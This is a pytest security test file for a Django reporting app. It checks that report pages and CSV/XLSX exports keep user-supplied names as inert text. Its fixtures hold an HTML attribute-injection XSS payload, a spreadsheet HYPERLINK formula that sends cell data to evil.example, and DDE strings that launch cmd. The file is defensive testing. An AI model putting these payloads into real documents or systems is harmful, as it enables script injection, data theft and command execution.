"""Text typed by delegates or imported from a file stays text: in report pages, HTML files and spreadsheets."""
from __future__ import annotations

import csv
import io
from html.parser import HTMLParser

import openpyxl
import pytest

from goldenthread.reporting.data import build_report
from goldenthread.reporting.export import to_csv, to_xlsx
from goldenthread.core import roles
from tests.reporting.conftest import BUS

PAYLOAD = 'Buses" onfocus="alert(1)" autofocus="'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click for the real numbers")'


class _Attributes(HTMLParser):
    def __init__(self):
        super().__init__()
        self.names = set()

    def handle_starttag(self, tag, attrs):
        self.names.update(name for name, _ in attrs)


def attribute_names(html: str) -> set[str]:
    parser = _Attributes()
    parser.feed(html)
    return parser.names


@pytest.fixture
def hostile_world(world):
    from goldenthread.core.models import Area, UserGroup

    world["clusters"][BUS].name = PAYLOAD
    world["clusters"][BUS].save()
    Area.objects.filter(name="Harford").update(name="Harford" + PAYLOAD)
    UserGroup.objects.filter(name="Older people").update(name="Older" + PAYLOAD)
    return world


def test_a_theme_area_or_user_group_named_with_a_quote_cannot_add_attributes_to_the_report_page(
        client, hostile_world, make_user):
    client.force_login(make_user(roles.ADMINISTRATOR, "ada"))
    page = client.get(f"/cycles/{hostile_world['cycle'].slug}/report/?version=team").content.decode()
    assert "<svg" in page and "onfocus=&quot;alert(1)&quot;" in page
    names = attribute_names(page)
    assert "onfocus" not in names and "autofocus" not in names


def test_the_downloaded_full_html_report_keeps_hostile_names_as_text(client, hostile_world, make_user):
    client.force_login(make_user(roles.ADMINISTRATOR, "ada"))
    html = client.get(f"/cycles/{hostile_world['cycle'].slug}/report/download/full.html?version=team").content
    html = html.decode()
    assert "<svg" in html
    names = attribute_names(html)
    assert "onfocus" not in names and "autofocus" not in names


def test_no_template_prints_anything_with_the_safe_filter():
    from pathlib import Path

    import goldenthread

    root = Path(goldenthread.__file__).parent
    offenders = [str(p.relative_to(root)) for p in root.rglob("*.html") if "|safe" in p.read_text()]
    assert offenders == []


def _data(world):
    return build_report(world["cycle"], world["workshop"], shared=False, threshold=5, made_by="cora")


def test_a_theme_renamed_to_a_formula_is_never_a_formula_cell_in_the_xlsx(world):
    world["clusters"][BUS].name = FORMULA
    world["clusters"][BUS].save()
    world["action"].owner = "+1+cmd|' /C calc'!A0"
    world["action"].measure = "@SUM(1+1)*cmd|' /C calc'!A0"
    world["action"].save()
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(_data(world))))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + FORMULA in [c.value for c in cells]
    numbers = [c.value for c in book["Themes"]["C"][1:]]
    assert all(isinstance(n, int) for n in numbers)  # counts stay numbers


def test_no_csv_cell_begins_with_a_formula_character(world):
    world["clusters"][BUS].name = FORMULA
    world["clusters"][BUS].save()
    from goldenthread.core.models import Area

    Area.objects.filter(name="Harford").update(name="-2+3")
    Area.objects.filter(name="Northbrook").update(name=" @Northbrook")
    rows = list(csv.reader(io.StringIO(to_csv(_data(world)).decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + FORMULA in cells


def test_control_characters_in_a_theme_name_do_not_break_the_xlsx_export(client, world, make_user):
    world["clusters"][BUS].name = "Buses\x01 after\x0b six"
    world["clusters"][BUS].save()
    client.force_login(make_user(roles.VIEWER, "vic"))
    r = client.get(f"/cycles/{world['cycle'].slug}/report/download/data.xlsx")
    assert r.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    assert "Buses after six" in [c.value for row in book["Themes"].iter_rows() for c in row]


def test_a_match_that_is_not_a_number_is_a_clean_bad_request(client, world, commissioner):
    client.force_login(commissioner)
    for bad in ("abc", "1e5", "9" * 40):
        r = client.post(f"/cycles/{world['cycle'].slug}/theme-matches/", {"match": bad, "decision": "confirm"})
        assert r.status_code == 400


def test_a_workshop_number_too_big_for_the_database_is_not_found(client, world, commissioner):
    client.force_login(commissioner)
    assert client.get(f"/cycles/{world['cycle'].slug}/report/?workshop={'9' * 30}").status_code == 404


def test_a_viewer_cannot_make_the_server_draw_a_huge_card_pdf(client, world, make_user, settings):
    settings.GOLDENTHREAD_MAX_PDF_CARDS = 6
    client.force_login(make_user(roles.VIEWER, "vic"))
    r = client.get(f"/cycles/{world['cycle'].slug}/cards.pdf")
    assert r.status_code == 400 and "at most 6 cards" in r.content.decode()
    assert client.get(f"/cycles/{world['cycle'].slug}/cards.pdf?kind=future").status_code == 200


def test_a_facilitator_can_still_print_every_card(client, world, make_user, settings):
    settings.GOLDENTHREAD_MAX_PDF_CARDS = 5
    client.force_login(make_user(roles.FACILITATOR, "fran"))
    r = client.get(f"/cycles/{world['cycle'].slug}/cards.pdf")
    assert r.status_code == 200 and r["Content-Type"] == "application/pdf"
